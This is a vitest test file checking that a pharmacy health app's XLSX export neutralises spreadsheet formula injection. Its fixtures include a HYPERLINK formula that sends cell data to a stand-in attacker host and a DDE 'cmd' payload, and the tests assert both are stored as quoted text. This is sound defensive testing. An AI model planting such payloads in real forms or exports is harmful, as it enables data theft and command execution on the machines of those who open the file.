// Exports neutralise formula injection (OWASP): a cell beginning with = + - @, a tab or a carriage
// return is read as text by any spreadsheet.
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { fixtureOf } from '@bilan/fixtures';
import { auth } from '../../test/helpers';
import { eachAppWithPharmacyLogin, login, submittedForm } from '../../test/accounts';
import { spreadsheetCell } from '../shared/spreadsheetCell';

const t = eachAppWithPharmacyLogin();

const HYPERLINK = '=HYPERLINK("http://attaquant.test/?d="&A1,"Cliquez ici")';

describe('the XLSX export', () => {
  it('reads a patient named =HYPERLINK(...) and formula-like answers back as text, never as formulas', async () => {
    const typical = fixtureOf('45to50', 'typical');
    const answers = {
      ...typical.expected.normalized,
      healthQuestions: { ...typical.expected.normalized.healthQuestions, otherSexualHealth: '+33 6 12 34 56 78' },
      addictionAndMentalHealth: {
        ...typical.expected.normalized.addictionAndMentalHealth,
        customFocusTopics: '@SUM(1+1)*cmd|" /C calc"!A0',
      },
    };
    await submittedForm(t.app, t.pharmacy.id, {
      lastName: HYPERLINK,
      firstName: '-2+3',
      submittedAt: '2026-03-09T08:00:00.000Z',
      answers,
    });
    await submittedForm(t.app, t.pharmacy.id, {
      lastName: '\tTabulé',
      firstName: '\rRetour',
      submittedAt: '2026-03-08T08:00:00.000Z',
    });
    const token = await login(t.app, t.pharmacy.email);

    const res = await t.app.inject({ method: 'GET', url: '/api/utilisateurs/export', headers: auth(token) });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('45-50 ans');
    if (!sheet) throw new Error('no 45-50 sheet');
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      ),
    );
    expect(texts).toContain(`'${HYPERLINK}`);
    expect(texts).toContain("'-2+3");
    expect(texts).toContain("'+33 6 12 34 56 78");
    expect(texts).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(texts).toContain("'\tTabulé");
    // XML reads a carriage return back as a line feed: the quote is what matters.
    expect(texts.some((v) => /^'[\r\n]Retour$/.test(v))).toBe(true);
    expect(texts.filter((v) => /^[=+\-@\t\r\n]/.test(v))).toEqual([]);
  });
});

describe('spreadsheetCell', () => {
  it('prefixes only texts that a spreadsheet would run, and leaves numbers and plain texts alone', () => {
    expect(['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1'].map(spreadsheetCell)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@A1",
      "'\t=1",
      "'\r=1",
    ]);
    expect([-5, 12.5, null, 'Lefèvre', 'a=b', ' =x'].map(spreadsheetCell)).toEqual([
      -5,
      12.5,
      null,
      'Lefèvre',
      'a=b',
      ' =x',
    ]);
  });
});
